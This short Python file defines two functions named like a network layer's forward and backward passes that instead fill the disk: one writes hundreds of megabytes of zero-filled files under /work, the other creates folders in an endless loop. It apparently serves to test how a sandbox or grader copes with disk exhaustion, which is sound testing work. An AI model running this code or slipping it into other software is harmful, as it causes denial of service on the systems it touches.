"""Writes until nothing more fits."""

import os


def center_forward(x):
    for number in range(200):
        with open(f"/work/{number}", "wb") as file:
            for _ in range(40):
                file.write(bytes(1 << 16))
    return x


def center_backward(dout):
    number = 0
    while True:
        os.mkdir(f"/work/folder{number}")
        number += 1
